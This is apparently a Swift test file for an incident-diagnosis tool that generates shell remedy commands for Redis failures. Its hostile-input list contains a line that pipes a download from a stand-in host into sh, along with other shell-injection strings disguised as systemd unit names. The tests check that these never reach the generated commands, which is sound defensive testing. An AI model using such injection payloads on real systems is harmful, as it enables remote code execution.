// SPDX-License-Identifier: Apache-2.0

import HandWritten
import Incidents
import Model
import Testing

@testable import Diagnosis

/// Commands are pasted into a root's shell: nothing that a log says may be run by it.
@Suite struct RemedyCommandTests {
    static let hostile = [
        "x; curl evil.example|sh #.service", "$(evil).service", "`evil`.service",
        "x'; evil '.service", "x\" evil \".service", "x\nevil\n.service", "--evil.service",
        "x\u{1B}[2Jevil.service", "x && evil.service", "../evil", "évil.service",
    ]

    /// Every command of an incident, the ones that only look included.
    private func commands(_ incident: Incident) -> [String] {
        incident.causes.flatMap { cause in
            cause.missing.map(\.command)
                + cause.remedies.flatMap { [$0.command, $0.rollback] }
                // Where to log in is told in words, by names that nobody pastes.
                + cause.remedies.map(\.precheck).filter { !$0.hasPrefix("Log in to the host") }
        } + [incident.verdict.nextCommand].compactMap(\.self)
    }

    /// The incident of a world in which everything that a log or a snapshot names is hostile.
    private func incident(_ world: World, _ text: String) -> Incident? {
        var world = world
        for measure in [
            Measure.cgroupPath, .pidsCgroupPath, .configDirectory, .configSave, .kernelRelease,
        ] {
            world.facts.set(measure, .text("/system.slice/\(text)"))
        }
        world.facts.process(at: 90, [.cgroupPath: .text("/system.slice/\(text)")])
        for i in world.log.entries.indices {
            world.log.entries[i].values = world.log.entries[i].values.map { capture in
                ["unit", "dir", "directory", "cgroup", "path", "file", "user"].contains(
                    capture.name)
                    ? Capture(name: capture.name, text: text) : capture
            }
        }
        world.log.streams = world.log.streams.map {
            var writer = $0
            (writer.unit, writer.host, writer.container) = (text, text, text)
            return writer
        }
        return world.incident
    }

    @Test("what a log names is not run", arguments: hostile)
    func hostileNames(text: String) throws {
        for trial in Trial.all {
            guard let incident = incident(trial.isTrue, text) else { continue }
            for command in commands(incident) {
                #expect(!ShellWords(command).bare.contains("evil"), "\(trial): \(command)")
                #expect(!command.unicodeScalars.contains { $0 != "\n" && $0.value < 0x20 })
            }
            let run = incident.causes.flatMap(\.remedies).map(\.command)
            #expect(run.allSatisfy { ShellWords($0).isClosed })
        }
    }

    @Test("a unit's name with an escape is quoted, and is the unit's")
    func escapedUnit() {
        #expect(ShellWord.quoted("redis\\x2d1.service") == "'redis\\x2d1.service'")
        #expect(ShellWord.quoted("redis@6379.service") == "redis@6379.service")
        #expect(ShellWord.quoted("it's") == "'it'\\''s'")
        #expect(ShellWord.quoted("-x") == "'-x'")
        #expect(ShellWord.quoted("a\nb") == nil)
        #expect(ShellWord.quoted("") == nil)
        #expect(Case.isServers("redis\\x2d1.service"))
        #expect(!Case.isServers("x; sh.service") && !Case.isServers("user@1000.service"))
    }

    @Test("no command asks the reader to fill something in", arguments: Trial.all)
    func noPlaceholders(trial: Trial) throws {
        let incident = try #require(trial.isTrue.incident)
        for remedy in incident.causes.flatMap(\.remedies) {
            let words = remedy.command.split { !$0.isLetter && $0 != "_" }
            let gaps = words.filter { word in
                word.hasPrefix("OLD_") || word.hasPrefix("NEW_") || word.hasPrefix("OWN_")
                    || ["PID", "VALUE", "UNIT", "NAME"].contains(word)
            }
            #expect(gaps.isEmpty, "\(remedy.command)")
            #expect(!remedy.command.contains(" edit ") && !remedy.rollback.contains("OLD_"))
        }
    }

    // MARK: - The user's process limit

    /// Forks were refused at a limit of 4 that was read; before it was 96365.
    private func atProcessLimit(recovered: Bool = false) -> World {
        var world = World.refusal("Resource temporarily unavailable")
        world.facts.process(at: 20, [.limitProcesses: 96365, .limitProcessesHard: 96365])
        world.facts.process(
            at: 90, [.limitProcesses: 4, .limitProcessesHard: 4, .threads: 5, .userID: 999])
        world.facts.process(at: 104, [.limitProcesses: 4, .limitProcessesHard: 4, .threads: 5])
        if recovered { world.log.save(at: 200) }
        return world
    }

    private func remedies(_ world: World) throws -> [Remedy] {
        try #require(world.incident?.finding(.task_limit_rlimit_nproc)).remedies
    }

    @Test("the limit that is set is none below one that was read, and the old one is the undo")
    func raisesTheProcessLimit() throws {
        let steps = try remedies(atProcessLimit())
        #expect(steps.first?.command.contains("--nproc=96365:96365") == true)
        #expect(steps.first?.rollback.hasSuffix("--nproc=4:4") == true)
        #expect(steps.last?.command.contains("LimitNPROC=96365\\n") == true)
        #expect(steps.last?.permanent == true)
    }

    @Test("after a restart the living process is meant, and the lasting remedy comes first")
    func restarted() throws {
        var world = atProcessLimit()
        world.log.pid = 1845
        world.log.start(at: 150)
        let steps = try remedies(world)
        #expect(steps.first?.permanent == true)
        for step in steps {
            #expect(!step.command.contains("--pid 10 ") && !step.rollback.contains("--pid 10 "))
        }
        #expect(steps.contains { $0.command.contains("--pid 1845 ") })
    }

    // MARK: - A change within the same second

    @Test("a failure in the second in which the mode was set does not count against it")
    func sameSecond() throws {
        var world = World.refusal(overcommit: nil).strictly()
        world.facts.change(at: 106, [.overcommitMemory: 1])
        world.log.refuseSave(at: 106.4, error: "Cannot allocate memory")
        world.log.save(at: 110)
        let finding = try #require(world.incident?.finding(.commit_limit_strict))
        #expect(!finding.evidence.contains { $0.statement.contains("did not help") })
    }

    // MARK: - Old readings

    @Test("Committed_AS of long before bounds no fork")
    func oldCharge() throws {
        var world = World.refusal(overcommit: nil).with { $0.log = HandWrittenLog() }
        world.log.start(at: 0, version: "7.2.6", overcommit: nil)
        world.log.refuseSave(at: 5000, error: "Cannot allocate memory")
        world = world.strictly()
        world.facts.host(at: 4990, [.overcommitMemory: 2])
        #expect(world.incident?.finding(.commit_limit_strict)?.verdict != .confirmed)
    }

    // MARK: - A reading right after the failure

    @Test("a replica that INFO misses a moment after the drop confirms what the log says")
    func droppedReplica() throws {
        var world = World()
        world.log.add(.sync_started, at: 90, ["operation": "full_sync", "target": "disk"])
        world.log.add(.output_buffer_exceeded, at: 100, ["flags": "S", "client": "x"])
        world.facts.server(at: 98, [.connectedReplicas: 1, .fullSyncs: 1])
        world.facts.server(at: 100.3, [.connectedReplicas: 0, .fullSyncs: 1])
        world.facts.server(at: 106, [.connectedReplicas: 1, .fullSyncs: 2])
        let finding = try #require(world.incident?.finding(.replica_output_buffer_limit))
        #expect(finding.verdict == .likely)
    }

    /// The remedy where a file could not be written in the server's directory.
    private func fileRemedy(_ error: String) throws -> Remedy {
        let world = World().with {
            $0.log.start(at: 0)
            $0.log.fork(.bgsave, child: 97, at: 100)
            $0.log.add(
                .rdb_file_error, at: 100.1, ["error": error, "dir": "/var/lib/redis"], pid: 97,
                role: .child)
            $0.log.add(.operation_failed, at: 100.2, ["operation": "bgsave"])
            let mode = error.hasPrefix("Read") ? "ro,relatime" : "rw,relatime"
            $0.facts.add(
                SnapshotSubject(.fileSystem, path: "/var/lib/redis"), at: 101,
                [.mountOptions: .text(mode)])
        }
        return try #require(
            world.incident?.causes.first { $0.id == "dir_not_writable" }?.remedies.first)
    }

    @Test("a read-only file system is mounted for writing, and nobody gets another owner")
    func readOnly() throws {
        let remedy = try fileRemedy("Read-only file system")
        #expect(remedy.command.contains("remount,rw") && remedy.rollback.contains("remount,ro"))
        #expect(!remedy.command.contains("chown"))
    }

    @Test("buffers are raised only where INFO shows what the drop did")
    func bufferRemedies() throws {
        func remedies(_ syncs: SnapshotValue.Quantity) throws -> [Remedy] {
            let world = World().with {
                $0.facts.server(
                    at: 98, [.configOutputBufferLimit: "normal 0 0 0 slave 268435456 67108864 60"])
                $0.log.add(
                    .sync_started, at: 100, ["operation": "full_sync", "target": "disk"])
                $0.log.add(.output_buffer_exceeded, at: 101, ["flags": "S", "client": "x"])
                $0.facts.server(at: 99, [.fullSyncs: 1])
                $0.facts.server(at: 110, [.fullSyncs: syncs])
            }
            return try #require(
                world.incident?.causes.first { $0.id == "replica_output_buffer_limit" }
            ).remedies
        }
        #expect(try remedies(2).map(\.command).joined().contains("client-output-buffer-limit"))
        #expect(!(try remedies(1).map(\.command).joined().contains("CONFIG SET")))
    }
}
